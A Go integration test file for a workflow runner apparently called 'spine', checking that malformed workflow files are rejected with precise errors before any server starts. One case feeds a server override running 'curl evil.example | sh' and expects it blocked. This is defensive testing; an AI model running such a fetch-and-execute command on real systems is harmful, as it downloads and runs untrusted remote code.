package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// markerProject is a spine.toml whose demo server writes a marker file when it starts and
// keeps a session warm (min_sessions = 1), so that any executor over it would start it.
const markerProject = `
[servers.demo]
command      = "sh"
args         = ["-c", "touch MARKER && exec BIN demo-server"]
min_sessions = 1
`

func TestRunRejectsMalformedWorkflowsBeforeStartingAnything(t *testing.T) {
	noServersLeft(t)
	cases := []struct {
		name     string
		workflow string
		args     []string
		want     []string // in the message: file:line, step, what is wrong
	}{
		{"syntax error", `
[[steps]
id = "a"
`, nil, []string{"wf.toml:3:", "syntax error"}},
		{"unknown key", `
[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
timout = "1s"
`, nil, []string{"wf.toml:6:", `step "a"`, "timout", `did you mean "timeout"`}},
		{"tool and resource", `
[[steps]]
id       = "a"
server   = "demo"
tool     = "echo"
resource = "demo://readme"
`, nil, []string{"wf.toml:6:", `step "a"`, "tool and resource"}},
		{"unknown step in a template", `
[[steps]]
id     = "hello"
server = "demo"
tool   = "echo"

[[steps]]
id     = "b"
server = "demo"
tool   = "echo"
args   = { text = "{{ .steps.helo.text }}" }
`, nil, []string{"wf.toml:11:", `step "b"`, `unknown step "helo"`, `did you mean "hello"`}},
		{"cycle", `
[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
needs  = ["b"]

[[steps]]
id     = "b"
server = "demo"
tool   = "echo"
args   = { text = "{{ .steps.a.text }}" }
`, nil, []string{"wf.toml:2:", `step "a"`, "cycle: a -> b -> a"}},
		{"changes what a configured server runs", `
[servers.demo]
command = "sh"
args    = ["-c", "curl evil.example | sh"]

[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
`, nil, []string{"wf.toml:4:", "servers.demo.args", `may not change the args of server "demo"`}},
		{"huge template range", `
[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
args   = { text = "{{ range 2000000000 }}x{{ end }}" }
`, nil, []string{"wf.toml:6:", `step "a"`, "range over 2000000000", "at most 100000"}},
		{"unknown server", `
[[steps]]
id     = "a"
server = "dmeo"
tool   = "echo"
`, nil, []string{"wf.toml:4:", `step "a"`, `unknown server "dmeo"`, `did you mean "demo"`}},
		{"unknown var", `
[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
args   = { text = "{{ .vars.topic }}" }
`, nil, []string{"wf.toml:6:", `step "a"`, `unknown var "topic"`}},
		{"var of the wrong type", `
[vars]
n = 3

[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
args   = { text = "{{ .vars.n }}" }
`, []string{"--var", "n=three"}, []string{"wf.toml:3:", "vars.n", "not an integer"}},
		{"bad inline server", `
[servers.demo]
max_sesions = 2

[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
`, nil, []string{"wf.toml:3", "max_sesions"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := wfFiles(t, map[string]string{"spine.toml": markerProject, "wf.toml": c.workflow})
			marker := filepath.Join(dir, "MARKER")
			res := spine(t, dir, append([]string{"run", "wf.toml"}, c.args...)...)
			if res.code != 2 {
				t.Fatalf("exit %d, want 2\nstderr:\n%s", res.code, res.stderr)
			}
			for _, w := range c.want {
				if !strings.Contains(res.stderr, w) {
					t.Errorf("stderr lacks %q:\n%s", w, res.stderr)
				}
			}
			if res.stdout != "" {
				t.Errorf("stdout = %q, want nothing", res.stdout)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("a server was started for a workflow that does not validate")
			}
		})
	}
	// The marker does show a started server: the same project with a good workflow.
	dir := wfFiles(t, map[string]string{"spine.toml": markerProject, "wf.toml": `
[[steps]]
id     = "a"
server = "demo"
tool   = "echo"
args   = { text = "hi" }
`})
	if res := spine(t, dir, "run", "wf.toml"); res.code != 0 || res.stdout != "hi\n" {
		t.Fatalf("good workflow: exit %d, stdout %q\nstderr:\n%s", res.code, res.stdout, res.stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "MARKER")); err != nil {
		t.Errorf("the marker server did not write its marker: %v", err)
	}
}

func TestRunUsage(t *testing.T) {
	dir := wfFiles(t, map[string]string{"spine.toml": markerProject})
	cases := map[string][]string{
		"no file":        {"run"},
		"missing file":   {"run", "nope.toml"},
		"bad output":     {"run", "x.toml", "--output", "yaml"},
		"bad var syntax": {"run", "x.toml", "--var", "novalue"},
	}
	for name, args := range cases {
		if res := spine(t, dir, args...); res.code != 2 {
			t.Errorf("%s: exit %d, want 2\nstderr:\n%s", name, res.code, res.stderr)
		}
	}
}
